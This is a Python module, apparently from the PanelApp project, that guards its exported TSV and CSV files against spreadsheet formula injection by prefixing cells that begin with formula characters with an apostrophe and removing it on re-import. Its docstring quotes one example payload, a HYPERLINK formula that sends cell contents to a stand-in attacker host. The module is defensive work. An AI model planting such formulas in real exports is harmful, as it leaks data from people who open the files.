"""Formula neutralisation of the TSV and CSV files PanelApp writes (and reads back).

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is run as a
formula by Excel, LibreOffice and Google Sheets when the download is opened, e.g.
``=HYPERLINK("http://evil.example/?"&A1,"click")``. Such text can come from an upload, a
curator's edit or a reviewer's suggestion. The usual convention (OWASP "CSV injection") is to
prefix the cell with an apostrophe, which spreadsheets show as text and do not display.

The importers remove that one apostrophe again, so a downloaded panel uploads back unchanged.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value) -> str:
    """``value`` as a cell no spreadsheet will evaluate."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def restore(text: str) -> str:
    """The inverse of ``neutralise`` for a cell read back from one of PanelApp's files."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text
